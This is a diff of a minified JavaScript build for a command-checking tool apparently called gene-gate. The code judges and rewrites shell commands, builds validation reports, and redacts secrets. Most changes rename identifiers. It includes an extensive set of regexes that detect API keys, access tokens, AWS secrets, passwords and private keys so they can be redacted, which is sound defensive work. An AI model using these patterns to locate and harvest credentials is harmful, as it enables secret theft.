-0)return;const i=jc(t,s.span),o=t.slice(s.span.start,s.span.end);return Zt(`${i.trimEnd()} -- ${o}`)},ZF=({command:t,words:e,
+0)return;const i=Nc(t,s.span),o=t.slice(s.span.start,s.span.end);return Kt(`${i.trimEnd()} -- ${o}`)},ZF=({command:t,words:e,
 problems:n,invocation:s})=>{if(!n.some(({rule:a})=>a==="uses-network")||s?.program!=="npx")return;const i=e.slice(1).find(
 ({text:a})=>/^(?:@[\w.-]+\/)?[\w.-]+@[\w.^~<>=*-]+$/.test(a));if(i===void 0)return;const o=i.text.slice(0,i.text.lastIndexOf(
-"@"));return Zt(or(t,i.span,o))},tC=new Set(["test","start","stop"]),KF=new Set(["pnpm","yarn","bun","npm"]),WF=async({command:t,
-problems:e,words:n,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await nC(r),o=e.find(f=>Dn(f,"npm-script-miss\
+"@"));return Kt(or(t,i.span,o))},Qg=new Set(["test","start","stop"]),KF=new Set(["pnpm","yarn","bun","npm"]),qF=async({command:t,
+problems:e,words:n,invocation:s},r)=>{if(s?.program!=="npm")return;const i=await eC(r),o=e.find(f=>Dn(f,"npm-script-miss\
 ing"));if(o!==void 0){const f=Gr(o.args.script,i),h=n.find(({text:m})=>m===o.args.script);return f===void 0||h===void 0?
-void 0:Zt(or(t,h.span,f))}const a=e.find(f=>Dn(f,"unknown-subcommand"));if(a===void 0)return;const{subcommand:c,meant:u}=a.
-args,l=u===""?Gr(c,[...tC]):u,d=[...i.includes(c)?[`run ${c}`]:[],...l===void 0?[]:[l]],[B]=d;return B===void 0?void 0:Zt(
-or(t,a.span,B))},qF=async({command:t,words:e,problems:n},s)=>{const r=n.some(({rule:d})=>d==="program-not-allowed"),[i,o,
+void 0:Kt(or(t,h.span,f))}const a=e.find(f=>Dn(f,"unknown-subcommand"));if(a===void 0)return;const{subcommand:c,meant:u}=a.
+args,l=u===""?Gr(c,[...Qg]):u,d=[...i.includes(c)?[`run ${c}`]:[],...l===void 0?[]:[l]],[B]=d;return B===void 0?void 0:Kt(
+or(t,a.span,B))},WF=async({command:t,words:e,problems:n},s)=>{const r=n.some(({rule:d})=>d==="program-not-allowed"),[i,o,
 a]=e;if(!r||i===void 0||o===void 0||!KF.has(i.text)||i.text==="bun"&&/^(?:test|build)$/.test(o.text))return;const c=o.text===
-"run"?a:o;if(c===void 0||!(await nC(s)).includes(c.text))return;const u=tC.has(c.text)?c.text:`run ${c.text}`,l=t.slice(
-c.span.end).trim();return Zt(`npm ${u}${l===""?"":` -- ${l}`}`)},VF=({command:t,words:e,problems:n},{tree:s})=>{const r=n.
+"run"?a:o;if(c===void 0||!(await eC(s)).includes(c.text))return;const u=Qg.has(c.text)?c.text:`run ${c.text}`,l=t.slice(
+c.span.end).trim();return Kt(`npm ${u}${l===""?"":` -- ${l}`}`)},VF=({command:t,words:e,problems:n},{tree:s})=>{const r=n.
 find(({rule:d})=>d==="program-not-allowed"),[i,o,a]=e;if(r===void 0||i===void 0||s===void 0)return;const c=/^(?:pnpm|yarn|bun|bunx|pnpx)$/.
 test(i.text),u=/^(?:exec|dlx|x)$/.test(o?.text??"")?a:o,l=c?/^(?:bunx|pnpx)$/.test(i.text)?o:u:i;return l===void 0||!/^[a-z][\w.-]*$/.
-test(l.text)?void 0:Zt(`npx ${t.slice(l.span.start)}`)},YF=({command:t})=>{const[,e,n]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
-exec(t)??[];if(e===void 0||n===void 0)return;const[,s=n,r=""]=/^(.*?)([ \t]+--(?:[ \t].*)?)?$/.exec(n.trim())??[];return Zt(
-`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function nC({tree:t}){return[...(t&&await zt(t,""))?.scripts.keys()??[]]}const sC=6,
-XF=200;async function rC(t,e,n={}){return new QF(e,n).rewrite(t,sC)}class QF{#e;#t;#s;#i=XF;constructor(e,{rewrites:n=dC,
+test(l.text)?void 0:Kt(`npx ${t.slice(l.span.start)}`)},YF=({command:t})=>{const[,e,n]=/^cd[ \t]+([\w./@-]+)[ \t]*&&[ \t]*(npm[ \t][^;&|<>]*)$/.
+exec(t)??[];if(e===void 0||n===void 0)return;const[,s=n,r=""]=/^(.*?)([ \t]+--(?:[ \t].*)?)?$/.exec(n.trim())??[];return Kt(
+`${s} -w ${e.replace(/\/$/,"")}${r}`)};async function eC({tree:t}){return[...(t&&await Ut(t,""))?.scripts.keys()??[]]}const tC=6,
+XF=200;async function nC(t,e,n={}){return new QF(e,n).rewrite(t,tC)}class QF{#e;#t;#s;#i=XF;constructor(e,{rewrites:n=uC,
 accepts:s=()=>!0}){this.#e=e,this.#t=n,this.#s=s}async rewrite(e,n){this.#i-=1;const s=await this.#e.judge.command(e),{reading:r,
-verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const a=Tm(e);if(a!==void 0&&i==="block")return{kind:"left",reason:Pt.
+verdict:i,findings:o}=s;if(i==="allow")return{kind:"fine"};const a=Am(e);if(a!==void 0&&i==="block")return{kind:"left",reason:Pt.
 Ot.dangerous(a)};let c;for(const d of n>0&&this.#i>0?this.#t:[]){const B=await d(r,this.#e);if(B===void 0)continue;if("r\
 eason"in B){c??=B.reason;continue}const f=await this.#r(B.commands,n-1),h=eL(B,f);if(h.kind==="left")c??=h.reason;else return h}
-const[u]=o,l=n===sC||this.#s(s);return u===void 0||i==="warn"&&l?{kind:"fine"}:{kind:"left",reason:c??(0,Pt.A3)(u)}}async#r(e,n){
-const s=[];for(const r of e){if(s.some(iC)||this.#i<=0)break;s.push(await this.rewrite(r,n))}return s}}function iC(t){return t.
-kind==="left"&&t.reason.id!==Pt.Vt}function eL(t,e){const n=e.find(iC);if(n!==void 0)return n;const s=e.flatMap((i,o)=>{
+const[u]=o,l=n===tC||this.#s(s);return u===void 0||i==="warn"&&l?{kind:"fine"}:{kind:"left",reason:c??(0,Pt.A3)(u)}}async#r(e,n){
+const s=[];for(const r of e){if(s.some(sC)||this.#i<=0)break;s.push(await this.rewrite(r,n))}return s}}function sC(t){return t.
+kind==="left"&&t.reason.id!==Pt.Vt}function eL(t,e){const n=e.find(sC);if(n!==void 0)return n;const s=e.flatMap((i,o)=>{
 if(i.kind==="left")return[];const a=t.commands[o]??"";return i.kind==="fixed"?[i]:[{commands:[a],steps:[],scripts:[]}]}),
 r=e.find(i=>i.kind==="left");return s.length===0||e.length<t.commands.length?r??{kind:"left",reason:Pt.Ot.tooLong()}:{kind:"\
 fixed",commands:s.flatMap(({commands:i})=>i),steps:[t.step,...r===void 0?[]:["command that only prints removed"],...s.flatMap(
-({steps:i})=>i)],scripts:[...t.scripts??[],...s.flatMap(({scripts:i})=>i)]}}const oC=16*1024;async function tL(t,e){const n=[];
-for(const i of t){const o=typeof i=="string"&&i.length<=oC;n.push(o?await rC(i,e):{kind:"fine"})}const s=new Set((await aC(
-t,e)).flat()),r=await Promise.all(n.map(async i=>(i.kind==="fixed"?(await aC(i.commands,e)).flat():[]).some(c=>!s.has(c))?
-{kind:"left",reason:Pt.Ot.addsProblems()}:i));return sL(t,await nL(t,r,e))}function aC(t,{judge:e}){return Promise.all(t.
+({steps:i})=>i)],scripts:[...t.scripts??[],...s.flatMap(({scripts:i})=>i)]}}const rC=16*1024;async function tL(t,e){const n=[];
+for(const i of t){const o=typeof i=="string"&&i.length<=rC;n.push(o?await nC(i,e):{kind:"fine"})}const s=new Set((await iC(
+t,e)).flat()),r=await Promise.all(n.map(async i=>(i.kind==="fixed"?(await iC(i.commands,e)).flat():[]).some(c=>!s.has(c))?
+{kind:"left",reason:Pt.Ot.addsProblems()}:i));return sL(t,await nL(t,r,e))}function iC(t,{judge:e}){return Promise.all(t.
 map(async n=>{const{findings:s}=await e.command(n);return s.flatMap(({rule:r,severity:i})=>i==="notice"?[]:r)}))}async function nL(t,e,n){
-return e.some(lC)&&(await Promise.all(e.map(async(r,i)=>{if(r.kind==="fixed")return!0;if(r.kind==="left")return!1;const{
+return e.some(cC)&&(await Promise.all(e.map(async(r,i)=>{if(r.kind==="fixed")return!0;if(r.kind==="left")return!1;const{
 findings:o,verdict:a}=await n.judge.command(t[i]);return a!=="block"&&!o.some(({rule:c})=>c==="only-prints")}))).includes(
-!0)?e.map(r=>lC(r)?rL:r):e}function sL(t,e){const n=new Set,s=new Set;return e.map((r,i)=>{const o=t[i];if(r.kind!=="fix\
-ed")return n.add(o),s.has(o)?cC:r;const a=r.commands.filter(c=>!n.has(c)&&n.add(c));for(const c of a)s.add(c);return a.length===
-r.commands.length?r:{...r,commands:a,steps:[...r.steps,...cC.steps]}})}const rL=uC("command that only prints removed"),cC=uC(
-"repeated command removed");function uC(t){return{kind:"fixed",commands:[],steps:[t],scripts:[]}}function lC(t){return t.
-kind==="left"&&t.reason.id===Pt.Vt}const dC=[OF,cF,SF,TF,RF,$F,DF,bF,_F,gF],iL=[...dC,GF,YF,PF,zF,WF,JF,ZF,UF,qF,VF],oL=new Set(
+!0)?e.map(r=>cC(r)?rL:r):e}function sL(t,e){const n=new Set,s=new Set;return e.map((r,i)=>{const o=t[i];if(r.kind!=="fix\
+ed")return n.add(o),s.has(o)?oC:r;const a=r.commands.filter(c=>!n.has(c)&&n.add(c));for(const c of a)s.add(c);return a.length===
+r.commands.length?r:{...r,commands:a,steps:[...r.steps,...oC.steps]}})}const rL=aC("command that only prints removed"),oC=aC(
+"repeated command removed");function aC(t){return{kind:"fixed",commands:[],steps:[t],scripts:[]}}function cC(t){return t.
+kind==="left"&&t.reason.id===Pt.Vt}const uC=[OF,cF,SF,TF,RF,$F,DF,bF,_F,gF],iL=[...uC,GF,YF,PF,zF,qF,JF,ZF,UF,WF,VF],oL=new Set(
 "checks-syntax-only npm-script-missing only-prints target-missing".split(" "));async function aL(t,e,n){if(t.every(({verdict:o})=>o===
-"allow"))return t;const s=t.map(({reading:o})=>o.command),r=new Vg(e),i=n?await tL(s,r):[];return Promise.all(t.map(async(o,a)=>{
-const{command:c}=o.reading;if(o.verdict==="allow"||c.length>oC)return o;const u=i[a];return u?.kind==="fixed"?fC(o,BC(c,
-u,r),r.judge):uL(o,e)}))}async function cL(t,e){const[n=t]=await aL([t],e,!1);return n}function BC(t,{commands:e,scripts:n},s){
+"allow"))return t;const s=t.map(({reading:o})=>o.command),r=new qg(e),i=n?await tL(s,r):[];return Promise.all(t.map(async(o,a)=>{
+const{command:c}=o.reading;if(o.verdict==="allow"||c.length>rC)return o;const u=i[a];return u?.kind==="fixed"?dC(o,lC(c,
+u,r),r.judge):uL(o,e)}))}async function cL(t,e){const[n=t]=await aL([t],e,!1);return n}function lC(t,{commands:e,scripts:n},s){
 const r=n.map(i=>s.pathOf(i)).flatMap(i=>{const o=s.textOf(i);return o===void 0?[]:[{path:i,text:o}]});return{old:t,new:e,
-...r.length>0&&{files:r},fix:!0}}async function uL(t,e){const{command:n}=t.reading,s=new Vg(e),r=await rC(n,s,{rewrites:iL,
-accepts:({findings:i})=>!i.some(({rule:o})=>oL.has(o))});return r.kind!=="fixed"?t:fC(t,{...BC(n,r,s),fix:!1},s.judge)}async function fC(t,e,n){
+...r.length>0&&{files:r},fix:!0}}async function uL(t,e){const{command:n}=t.reading,s=new qg(e),r=await nC(n,s,{rewrites:iL,
+accepts:({findings:i})=>!i.some(({rule:o})=>oL.has(o))});return r.kind!=="fixed"?t:dC(t,{...lC(n,r,s),fix:!1},s.judge)}async function dC(t,e,n){
 const{findings:s,verdict:r}=t,i=await Promise.all(e.new.map(d=>n.command(d)));if(i.some(d=>d.verdict==="block"))return t;
 const o=new Set(s.map(({rule:d})=>d)),a=i.flatMap(d=>d.findings).flatMap(({rule:d,severity:B})=>B==="notice"?[]:d),c=a.some(
 d=>!o.has(d));if(r==="warn"&&c)return t;const u=({rule:d,severity:B})=>r==="block"?B==="error":!a.includes(d),l=s.find(u);
 return l===void 0?t:{...t,findings:s.map(d=>d===l?{...d,edit:e}:d)}}const lL=Et(import.meta.url)("node:util");function dL(t){
-if(!an(t)||t.type!=="ValidationReport")return;const e=typeof t.overall_ok=="boolean"?"protocol":"results",n=e==="protoco\
-l"?t.commands:t.results;if(!Array.isArray(n))return;const s=n.map(hC);return{shape:e,id:Cs(t.id),geneId:Cs(t.gene_id),commands:s,
+if(!cn(t)||t.type!=="ValidationReport")return;const e=typeof t.overall_ok=="boolean"?"protocol":"results",n=e==="protoco\
+l"?t.commands:t.results;if(!Array.isArray(n))return;const s=n.map(BC);return{shape:e,id:Cs(t.id),geneId:Cs(t.gene_id),commands:s,
 ok:t.overall_ok!==!1&&s.length>0&&s.every(({ok:r})=>r),contradictory:Array.isArray(t.commands)&&Array.isArray(t.results)&&
-!(0,lL.isDeepStrictEqual)(t.commands.map(pC),t.results.map(pC)),durationMs:zc(t.duration_ms)??BL(t),hash:Pn({type:"Valid\
-ationReport",value:t})??null,differences:AB("ValidationReport",t)}}function hC(t){const{command:e,cmd:n,ok:s,duration_ms:r,
-err:i,stderr:o}=an(t)?t:{},a=Cs(e)??Cs(n);return{command:a??"",ok:s===!0&&a!==null,durationMs:zc(r),error:Cs(i)??Cs(o)}}
-function pC(t){const{command:e,ok:n}=hC(t);return[e,n]}function BL({started_at:t,finished_at:e}){const[n,s]=[t,e].map(r=>typeof r==
-"string"?Date.parse(r):zc(r));return typeof n=="number"&&typeof s=="number"&&s>=n?s-n:null}function Cs(t){return typeof t==
-"string"?t:null}function zc(t){return typeof t=="number"?t:null}const Ni={name:"gene-gate",version:"0.1.0"},Vz="https://\
-github.com/gene-gate/gene-gate",Yz="node ../gene-gate/dist/cli/index.js",Xz=null,fL=String.raw`
+!(0,lL.isDeepStrictEqual)(t.commands.map(fC),t.results.map(fC)),durationMs:jc(t.duration_ms)??BL(t),hash:Pn({type:"Valid\
+ationReport",value:t})??null,differences:vB("ValidationReport",t)}}function BC(t){const{command:e,cmd:n,ok:s,duration_ms:r,
+err:i,stderr:o}=cn(t)?t:{},a=Cs(e)??Cs(n);return{command:a??"",ok:s===!0&&a!==null,durationMs:jc(r),error:Cs(i)??Cs(o)}}
+function fC(t){const{command:e,ok:n}=BC(t);return[e,n]}function BL({started_at:t,finished_at:e}){const[n,s]=[t,e].map(r=>typeof r==
+"string"?Date.parse(r):jc(r));return typeof n=="number"&&typeof s=="number"&&s>=n?s-n:null}function Cs(t){return typeof t==
+"string"?t:null}function jc(t){return typeof t=="number"?t:null}const Ni={name:"gene-gate",version:"0.1.0"},Yz="https://\
+github.com/gene-gate/gene-gate",Xz="node ../gene-gate/dist/cli/index.js",Qz=null,fL=String.raw`
   sk-(?:ant|or|proj|svcacct|admin|lf|None)- gsk_ hf_ api_org_ pplx- xai- r8_ tvly- bedrock-api-key-
   ABSK nvapi- pcsk_ lsv2_(?:pt|sk)_
   GR1348941 AT[AC]TT3 ATBB pypi-AgE rubygems_ CLOJARS_ dckr_(?:pat|oat)_ AKCp cmVmd sgp_ snyk_
@@ -7138,7 +7141,7 @@ github.com/gene-gate/gene-gate",Yz="node ../gene-gate/dist/cli/index.js",Xz=null
   duffel_(?:live|test)_ EZ[AT]K access-(?:sandbox|development|production)- xoxe\.xox[bp]- SG\. xkeysib-
   key-(?=[0-9a-f]{32}) SK(?=[0-9a-fA-F]{32}) \d{8,10}:AA fio-u- tfp_ p8e- s-s4t2(?:ud|af)- sm_[aps]at_
   AGE-SECRET-KEY-1 A3-[A-Z0-9]{6}-
-`,hL=new RegExp(`\\b(?:${fL.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),Qz=[["github \
+`,hL=new RegExp(`\\b(?:${fL.trim().split(/\s+/).join("|")})(?=[\\w.~+/=-]{0,63}\\d)[\\w.~+/=-]{16,}`,"dg"),eU=[["github \
 token",/gh[pousr]_[A-Za-z0-9][\w.-]{19,}/dg],["github token",/github_pat_\w{20,}/dg],["gitlab token",/gl(?:pat|dt|ft|rt|cbt|ptt|imt|agent|oas|soat|ffct)-[\w-]{20,}/dg],
 ["gitlab token",/_gitlab_session=([0-9a-z]{32})/dg],["npm token",/npm_[A-Za-z0-9]{30,}/dg],["npm token",/_(?:authToken|auth|password)[ \t]{0,8}=[ \t]{0,8}(?!\[redacted )(\S{8,})/dg],
 ["aws key",/(?:AKIA|ASIA|ABIA|ACCA|A3T[A-Z0-9])[A-Z0-9]{16}/dg],["aws secret",/aws_secret_access_key["']?[ \t]{0,8}[:=][ \t]{0,8}["']?([\w/+=]{40})/dgi],
@@ -7152,87 +7155,87 @@ token",/gh[pousr]_[A-Za-z0-9][\w.-]{19,}/dg],["github token",/github_pat_\w{20,}
 ["bearer token",/bearer[ \t]{1,8}([\w.~+/=-]{16,})/dgi],["password",/\bcurl\b[^\n]{0,200}?[ \t](?:-u|--user)[ =]["']?([^\s"':]{1,64}:[^\s"']{3,})/dg],
 ["url user info",/:\/\/(?!\[redacted )([^\s/?#@]{1,512})@/dg],["private key",/-----BEGIN[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----[\s\S]*?(?:-----END[ A-Z0-9_-]{0,100}PRIVATE KEY(?: BLOCK)?-----|$)/dg]];
 function pL(t){return TOKEN_SHAPES.flatMap(([e,n])=>Array.from(t.matchAll(n),({indices:s})=>{const[r,i]=s?.[1]??s?.[0]??
-[0,0];return{kind:e,start:r,end:i}}))}function eU(t,e=[]){return mL(t,knownForms(e))}function mL(t,e){const n=[...findKnown(
+[0,0];return{kind:e,start:r,end:i}}))}function tU(t,e=[]){return mL(t,knownForms(e))}function mL(t,e){const n=[...findKnown(
 t,e),...pL(t),...EL(t)].sort((o,a)=>o.start-a.start||a.end-o.end),s=[];for(const o of n){const a=s.at(-1);a===void 0||o.
 start>=a.end?s.push(o):o.end>a.end&&s.splice(-1,1,{...a,end:o.end})}let r="",i=0;for(const{kind:o,start:a,end:c}of s)r+=
 `${t.slice(i,a)}[redacted ${o}]`,i=c;return{text:r+t.slice(i),redactions:s}}const Fi="(?<name>pass(?:word|wd|phrase)|pwd\
 |secret(?:[_-]?(?:access[_-]?)?key)?|token|(?:api|access|private|signing|encryption)[_-]?key)",gL="[ \\t]{0,8}(?::|=(?!=)\
-)[ \\t]{0,8}",CL="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",mC=`\\\\{0,3}["']`,yL=new RegExp(
-`${Fi}(?:${mC})?${gL}${mC}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),wL=new RegExp(`${Fi}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
+)[ \\t]{0,8}",CL="(?:[ \\t]{0,8}:[ \\t]{0,8}|[ \\t]{1,8}=(?!=)[ \\t]{0,8}|=[ \\t]{1,8})",hC=`\\\\{0,3}["']`,yL=new RegExp(
+`${Fi}(?:${hC})?${gL}${hC}(?<value>[^\\s"'\\\\]{4,})`,"dgi"),wL=new RegExp(`${Fi}=(?!=)(?<value>[^\\s"'&,;<>(){}[\\]\\\\]{6,\
 })`,"dgi"),bL=new RegExp(`${Fi}${CL}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi"),_L=new RegExp(`${Fi}(?<=--[\\w-]{1,60}\
 )[ \\t]{1,8}(?<value>[^\\s"',;<>(){}[\\]\\\\]{7,})`,"dgi");function EL(t){return[...Li(t,yL,({name:e,value:n,next:s})=>/["'\\]/.
-test(s)&&!DL(e,n)),...Li(t,wL,({value:e,next:n})=>!Uc(e,n)),...Li(t,bL,({value:e,next:n})=>gC(e)&&!Uc(e,n)),...Li(t,_L,({
-value:e,next:n})=>gC(e)&&!Uc(e,n))]}function Li(t,e,n){return Array.from(t.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
+test(s)&&!DL(e,n)),...Li(t,wL,({value:e,next:n})=>!Mc(e,n)),...Li(t,bL,({value:e,next:n})=>pC(e)&&!Mc(e,n)),...Li(t,_L,({
+value:e,next:n})=>pC(e)&&!Mc(e,n))]}function Li(t,e,n){return Array.from(t.matchAll(e)).flatMap(({groups:s={},indices:r})=>{
 const{name:i="",value:o=""}=s,[a,c]=r?.groups?.value??[0,0],u={name:i,value:o,next:t.charAt(c)};return vL(i,o)||!n(u)?[]:
 [{kind:"named secret",start:a,end:c}]})}const kL=/^(?:undefined|null|nil|none|true|false|string|number|boolean|function|object|unknown|any|never|required|missing|optional|expired|invalid|incorrect|expected|unexpected|empty|redacted|hidden|changeme|example|placeholder)[.!?]?$/i;
 function vL(t,e){return kL.test(e)||/^(?:[*x•.…_-]+|[<{$%].*|\[.*)$/i.test(e)?!0:/^[\d.:_-]+$/.test(e)&&!/^p/i.test(
-t)}function DL(t,e){return/token|key/i.test(t)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function Uc(t,e){return e!==""&&"([{".includes(
-e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(t)}function gC(t){return/:\/\/|^[.~]?\/|\/.*\.\w{1,5}$/.
+t)}function DL(t,e){return/token|key/i.test(t)&&/^[A-Za-z][a-z]{0,15}$/.test(e)}function Mc(t,e){return e!==""&&"([{".includes(
+e)?!0:/^(?:await|new|process|this|self|req|config|options|opts|args|env|params|ctx|parser)\b/.test(t)}function pC(t){return/:\/\/|^[.~]?\/|\/.*\.\w{1,5}$/.
 test(t)||/^(?:sha|md|base|utf|hs|rs|es|aes|oauth|v)-?\d+\w{0,4}$/i.test(t)?!1:/\d/.test(t)?/[a-z]/i.test(t):t.length>=20&&
-!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(t)}function tU(t,e=[]){const n=knownForms(e);return{...t,stdout:CC(t.stdout,
-n),stderr:CC(t.stderr,n),...t.reason===void 0?{}:{reason:redactForms(t.reason,n).text}}}function CC(t,e){const{head:n,tail:s,
+!/^[A-Za-z]?[a-z]+(?:[-_.A-Z][a-z]+)*$/.test(t)}function nU(t,e=[]){const n=knownForms(e);return{...t,stdout:mC(t.stdout,
+n),stderr:mC(t.stderr,n),...t.reason===void 0?{}:{reason:redactForms(t.reason,n).text}}}function mC(t,e){const{head:n,tail:s,
 truncated:r}=t;if(!r)return{...t,head:redactForms(n+s,e).text,tail:""};const i=reachOfKnown(e),o=xL(n.slice(0,Math.max(0,
-n.length-i))),a=AL(OL(s.slice(i)));return{...t,head:redactForms(o,e).text,tail:redactForms(a,e).text}}const yC=4096;function xL(t){
-const e=/\S*$/.exec(t.slice(-yC))?.[0]??"";return t.slice(0,t.length-e.length)}function OL(t){return t.slice(/^\S*/.exec(
-t.slice(0,yC))?.[0].length??0)}function AL(t){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
-t);return e===null?t:`[redacted private key]${t.slice(e[0].length)}`}function nU(t,e){const n=t.outcomes.map(s=>redactOutcome(
-s,e));return{...t,outcomes:n}}function sU(t,e){let n=e.startedAt.getTime();return t.map(s=>s.ran?SL(s,`vr_${n++}`,e):null)}
+n.length-i))),a=AL(OL(s.slice(i)));return{...t,head:redactForms(o,e).text,tail:redactForms(a,e).text}}const gC=4096;function xL(t){
+const e=/\S*$/.exec(t.slice(-gC))?.[0]??"";return t.slice(0,t.length-e.length)}function OL(t){return t.slice(/^\S*/.exec(
+t.slice(0,gC))?.[0].length??0)}function AL(t){const e=/^[\w+/=\s]*-----END [A-Z ]{0,40}PRIVATE KEY(?: BLOCK)?-----/.exec(
+t);return e===null?t:`[redacted private key]${t.slice(e[0].length)}`}function sU(t,e){const n=t.outcomes.map(s=>redactOutcome(
+s,e));return{...t,outcomes:n}}function rU(t,e){let n=e.startedAt.getTime();return t.map(s=>s.ran?SL(s,`vr_${n++}`,e):null)}
 function SL({gene:t,outcomes:e,mutants:n},s,{nodeOf:r,policyDigest:i,finishedAt:o}){const a=e.map((u,l)=>{const d=n?.[l];
 return{command:t.commands[l]?.command??"",ok:u.status==="passed",stdout:ji(u.stdout,Pi),stderr:$L(u),status:u.status,exit_code:u.
-exit_code,signal:u.signal,duration_ms:u.duration_ms,...d&&{mutant:IL(d)}}}),c=e[0]?.started_at??o.toISOString();return bC(
-{...wC({commands:a,startedAt:c,finishedAt:TL(e,o)}),id:s,gene_id:t.asset.id,gene_asset_id:contentHash(t.asset.value),policy_digest:i,
-...EC(r(t)),commands:a})}function TL(t,e){const n=t.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=n.length===0?
+exit_code,signal:u.signal,duration_ms:u.duration_ms,...d&&{mutant:IL(d)}}}),c=e[0]?.started_at??o.toISOString();return yC(
+{...CC({commands:a,startedAt:c,finishedAt:TL(e,o)}),id:s,gene_id:t.asset.id,gene_asset_id:contentHash(t.asset.value),policy_digest:i,
+...bC(r(t)),commands:a})}function TL(t,e){const n=t.map(({started_at:r,duration_ms:i})=>Date.parse(r)+i),s=n.length===0?
 Number.POSITIVE_INFINITY:Math.max(...n);return new Date(Math.min(s,e.getTime())).toISOString()}function IL({outcome:t,operator:e,
 files:n}){return{outcome:t,...e&&{operator:e},files:n}}function $L({stderr:t,reason:e,status:n}){if(n==="passed"||e===void 0)
-return ji(t,Pi);const s=e.slice(0,Jc),r=ji(t,Pi-s.length-1);return r===""?s:`${r}
-${s}`}function wC({commands:t,startedAt:e,finishedAt:n}){return{type:"ValidationReport",schema_version:Iu,results:t.map(
+return ji(t,Pi);const s=e.slice(0,Gc),r=ji(t,Pi-s.length-1);return r===""?s:`${r}
+${s}`}function CC({commands:t,startedAt:e,finishedAt:n}){return{type:"ValidationReport",schema_version:Ou,results:t.map(
 ({command:s,ok:r,duration_ms:i,stderr:o})=>({cmd:s,ok:r,duration_ms:i,...r?{}:{err:o}})),overall_ok:t.length>0&&t.every(
-({ok:s})=>s),duration_ms:Math.max(0,Date.parse(n)-Date.parse(e)),started_at:e,finished_at:n,created_at:n}}function bC(t){
+({ok:s})=>s),duration_ms:Math.max(0,Date.parse(n)-Date.parse(e)),started_at:e,finished_at:n,created_at:n}}function yC(t){
 const e=dr(t);if(e===null)throw new TypeError("computeAssetId returns null only for a value that is not an object");return{
-...t,asset_id:e}}const Pi=4e3,Jc=1e3;function ji({head:t,tail:e,bytes:n,truncated:s},r){const i=t+e;if(!s&&i.length<=r)return i;
+...t,asset_id:e}}const Pi=4e3,Gc=1e3;function ji({head:t,tail:e,bytes:n,truncated:s},r){const i=t+e;if(!s&&i.length<=r)return i;
 const o=`
 [cut: the beginning and the end of ${n} bytes]
-`,a=s?t:i,c=s?e:i;return a.slice(0,Jc).replace(/[\ud800-\udbff]$/,"")+o+c.slice(-(r-Jc-o.length)).replace(/^[\udc00-\udfff]/,
-"")}function _C(t){const e={head:t,tail:"",bytes:Buffer.byteLength(t),truncated:!1};return ji(e,Pi)}function EC({version:t,
+`,a=s?t:i,c=s?e:i;return a.slice(0,Gc).replace(/[\ud800-\udbff]$/,"")+o+c.slice(-(r-Gc-o.length)).replace(/^[\udc00-\udfff]/,
+"")}function wC(t){const e={head:t,tail:"",bytes:Buffer.byteLength(t),truncated:!1};return ji(e,Pi)}function bC({version:t,
 platform:e,arch:n}){const s=["",t,e,n,"",Ni.name,Ni.version].join("|");return{env_fingerprint:{node_version:t,platform:e,
 arch:n,client:Ni.name,client_version:Ni.version},env_fingerprint_key:(0,to.createHash)("sha256").update(s).digest("hex").
-slice(0,16)}}const Zc="errsig:",RL="errsig_norm:",NL=220;function FL(t){return t.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,
+slice(0,16)}}const Hc="errsig:",RL="errsig_norm:",NL=220;function FL(t){return t.trim().toLowerCase().replace(/[a-z]:\\[^ \n\r\t]+/g,
 "<path>").replace(/\/[^ \n\r\t]+/g,"<path>").replace(/\b0x[0-9a-f]+\b/g,"<hex>").replace(/\b\d+\b/g,"<n>").replace(/\s+/g,
-" ").slice(0,NL)}function Mi(t){const e=t.trim();if(e.startsWith(Zc)){const n=FL(e.slice(Zc.length));return n===""?void 0:
-`${RL}${LL(n)}`}return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function rU(t){return t.flatMap(e=>{const n=e.
-trim(),s=n.startsWith(Zc)?Mi(n):n;return s?[s]:[]})}function LL(t){let e=2166136261;for(let n=0;n<t.length;n+=1)e=Math.imul(
+" ").slice(0,NL)}function Mi(t){const e=t.trim();if(e.startsWith(Hc)){const n=FL(e.slice(Hc.length));return n===""?void 0:
+`${RL}${LL(n)}`}return/^errsig_norm:[0-9a-f]{8}$/i.test(e)?e.toLowerCase():void 0}function iU(t){return t.flatMap(e=>{const n=e.
+trim(),s=n.startsWith(Hc)?Mi(n):n;return s?[s]:[]})}function LL(t){let e=2166136261;for(let n=0;n<t.length;n+=1)e=Math.imul(
 e^t.charCodeAt(n),16777619);return(e>>>0).toString(16).padStart(8,"0")}function PL(t){const e=ML(t),n=Mi(t);return n===void 0?
 e:{...e,matches:s=>Mi(s)===n||e.matches(s)}}function jL(t,e){return e.some(PL(t).matches)}function ML(t){const e=t.lastIndexOf(
 "/");if(t.startsWith("/")&&e>0){const n=t.slice(1,e),s=t.slice(e+1);return GL(n,s)?HL(n,s,t):Gi([t])}return!t.startsWith(
 "/")&&t.includes("|")?Gi(t.split("|").map(n=>n.trim())):Gi([t])}function GL(t,e){try{return new RegExp(t,e),!0}catch{return!1}}
-function HL(t,e,n){const s=Vn.translateRegExp(t),r=Pg(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),
+function HL(t,e,n){const s=Vn.translateRegExp(t),r=Fg(e.includes("y")?`\\A(?:${s})`:s,{ignoreCase:e===""||e.includes("i"),
